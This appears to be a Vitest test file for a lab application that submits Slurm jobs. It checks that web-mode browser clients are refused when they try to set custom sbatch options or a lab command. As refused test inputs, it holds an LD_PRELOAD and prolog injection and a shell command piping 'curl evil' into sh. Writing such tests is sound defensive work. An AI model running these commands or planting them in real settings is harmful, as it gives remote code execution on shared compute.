import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { PRESETS } from '../../../shared/presets.js';
import { createLabHost, type LabHost } from '../../../electron/host/lab-host.js';
import { tempDataDir } from '../../helpers/runs.js';

// What a browser (web mode: anyone with the token) may make the cluster run.
describe('Slurm submissions from web mode', () => {
  let data: { dir: string; cleanup: () => Promise<void> };
  let host: LabHost;
  beforeEach(async () => {
    data = await tempDataDir();
    host = await createLabHost({ dataDir: data.dir, mode: 'web', allowedRoots: [data.dir] });
  });
  afterEach(async () => {
    await host.close();
    await data.cleanup();
  });

  it('refuses free-form #SBATCH options and a lab command from a browser, before anything is written', async () => {
    const spec = PRESETS.find((p) => p.id === 'mnist-mlp-quick')?.spec;
    const r = await host.request('lab:runs.start', {
      spec,
      executor: { kind: 'slurm', slurm: { sbatchArgs: ['--export=ALL,LD_PRELOAD=/tmp/x.so'] } },
    });
    expect(r.ok ? '' : r.error.code).toBe('forbidden');
    expect(await host.runs.ids()).toEqual([]);

    const settings = { ...host.settings.cluster };
    const command = await host.request('lab:cluster.saveSettings', {
      settings: { ...settings, labCommand: '/bin/sh -c "curl evil | sh" #' },
    });
    expect(command.ok ? '' : command.error.message).toMatch(/not from a browser/);
    const args = await host.request('lab:cluster.saveSettings', {
      settings: { ...settings, defaults: { sbatchArgs: ['--prolog=/tmp/x'] } },
    });
    expect(args.ok ? '' : args.error.code).toBe('forbidden');
    // What may be set from a browser: the plain options.
    const ok = await host.request('lab:cluster.saveSettings', {
      settings: { ...settings, defaults: { partition: 'gpu', time: '4:00:00', sbatchArgs: [] } },
    });
    expect(ok.ok && ok.value.settings.defaults).toEqual({
      partition: 'gpu',
      time: '4:00:00',
      sbatchArgs: [],
    });
    expect(ok.ok && ok.value.commandEditable).toBe(false);
  });

  it('previews the script of a study without writing anything', async () => {
    const base = PRESETS.find((p) => p.id === 'mnist-mlp-quick')?.spec;
    const r = await host.request('lab:cluster.preview', {
      study: { kind: 'study', name: 'preview me', base, seeds: [0, 1, 2] },
      slurm: { partition: 'gpu', maxParallel: 2 },
    });
    if (!r.ok) throw new Error(r.error.message);
    expect(r.value.script).toContain('#SBATCH --array=0-2%2');
    expect(r.value.script).toContain('#SBATCH --partition=gpu');
    expect(r.value.file).toMatch(/studies\/preview-me\/slurm-\d{8}-\d{6}\/job\.sh$/);
    expect(await host.runs.ids()).toEqual([]);
  });
});
